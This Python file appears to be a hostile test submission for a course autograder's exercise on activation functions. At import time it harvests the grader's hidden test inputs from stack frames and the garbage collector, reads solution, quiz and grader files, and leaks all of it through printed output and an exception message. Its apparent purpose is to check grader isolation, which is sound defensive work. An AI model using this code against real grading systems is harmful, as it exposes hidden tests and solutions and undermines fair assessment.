"""BPGRADE-HOSTILE submission for exercise02 (attack: secrets_at_import).

Every function is correct, but the file never gets to them: while it is imported it gathers
every secret the child process holds or can read, prints it all and raises an exception that
carries it, so that it lands in the text every platform shows at once (the import error of an
exercise is shown beside each of its checks):

- every planned call the child received, found in the runner's frames (a `calls` list, a
  `request` dict) or among all objects (gc.get_objects()), with every number of its inputs
  written in full (repr of each float), the student's hidden cases first (their ids end in
  ":hidden");
- every file of the course it can read: solutions/, quizzes/, grader/checks/, tests/corpus/,
  beside the `grader` package it finds (importlib.util.find_spec) and under /autograder/source
  and /work/*; each one with BPGRADE-HOSTILE-MARKER (assembled at run time) and its path.

The grader must keep the course unreadable (so no marker is ever printed) and, while hidden
cases exist, keep their inputs out of the child until the public calls have answered and hold
back everything the learner's code produced (printed output, exception and import-error text)
from what is visible at once. The file fails at import: 0 of 10.

Safe to run by mistake: it only reads, never writes or deletes; the gathering is wrapped, so
the file always gets to raise its own exception.
"""

import contextlib
import gc
import importlib.util
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

MARKER = "BPGRADE-HOSTILE" + "-MARKER"
COURSE_FOLDERS = ("solutions", "specs", "quizzes", "grader/checks", "tests/corpus/exercise02")
MAX_FILES = 40


def _is_call(value: Any) -> bool:
    return type(value).__name__ == "Call" and all(
        hasattr(value, name) for name in ("id", "function", "args")
    )


def _in(value: Any) -> Iterator[Any]:
    if _is_call(value):
        yield value
    elif isinstance(value, list | tuple):
        yield from (item for item in value[:100_000] if _is_call(item))
    elif isinstance(value, dict):
        for item in value.values():
            if isinstance(item, list | tuple):
                yield from (c for c in item[:100_000] if _is_call(c))


def _calls() -> list[Any]:
    found: dict[int, Any] = {}
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            with contextlib.suppress(Exception):
                found.update((id(call), call) for call in _in(value))
        frame = frame.f_back
    with contextlib.suppress(Exception):
        found.update((id(obj), obj) for obj in gc.get_objects() if _is_call(obj))
    return sorted(found.values(), key=lambda call: (":hidden" not in str(call.id), str(call.id)))


def _numbers(value: Any, out: list[str]) -> None:
    if isinstance(value, np.ndarray):
        if value.dtype.kind == "f":
            out.extend(repr(float(v)) for v in value.ravel()[:10_000])
        elif value.dtype.kind in "iub":
            out.extend(str(int(v)) for v in value.ravel()[:10_000])
    elif isinstance(value, float | int) and not isinstance(value, bool):
        out.append(repr(value))
    elif isinstance(value, list | tuple):
        for item in value:
            _numbers(item, out)
    elif isinstance(value, dict):
        for item in value.values():
            _numbers(item, out)


def _inputs() -> str:
    lines = []
    for call in _calls():
        numbers: list[str] = []
        _numbers(list(call.args), numbers)
        _numbers(dict(getattr(call, "kwargs", {}) or {}), numbers)
        lines.append(f"{call.id} {call.function}: {' '.join(numbers)}")
    return "\n".join(lines)


def _course_roots() -> list[Path]:
    roots = [Path("/autograder/source")]
    with contextlib.suppress(Exception):
        spec = importlib.util.find_spec("grader")
        roots += [Path(p).parent for p in (spec.submodule_search_locations or [])] if spec else []
    with contextlib.suppress(OSError):
        roots += sorted(Path("/work").iterdir())
    return list(dict.fromkeys(roots))


def _course_files() -> str:
    parts = []
    for root in _course_roots():
        for folder in COURSE_FOLDERS:
            with contextlib.suppress(OSError):
                for path in sorted((root / folder).glob("*"))[:MAX_FILES]:
                    with contextlib.suppress(OSError, ValueError):
                        text = path.read_text(errors="replace")[:400]
                        parts.append(f"{MARKER} {path}:\n{text}")
    return "\n".join(parts)


_inputs_text = _course_text = ""
with contextlib.suppress(Exception):
    _inputs_text = _inputs()
with contextlib.suppress(Exception):
    _course_text = _course_files()
with contextlib.suppress(Exception):
    print("secrets_at_import: the course\n" + _course_text)
    print("secrets_at_import: every input\n" + _inputs_text)
raise RuntimeError(f"every input:\n{_inputs_text}\nthe course:\n{_course_text}")


def sigmoid(Z: np.ndarray) -> np.ndarray:
    with np.errstate(under="ignore"):
        e = np.exp(-np.abs(Z))
    return np.where(Z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    s = sigmoid(Z)
    return dA * (s * (1.0 - s))


def relu(Z: np.ndarray) -> np.ndarray:
    return np.maximum(Z, 0.0)


def relu_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    return np.where(Z > 0, dA, 0.0)


def tanh_backward(dA: np.ndarray, Z: np.ndarray) -> np.ndarray:
    t = np.tanh(Z)
    return dA * (1.0 - t**2)
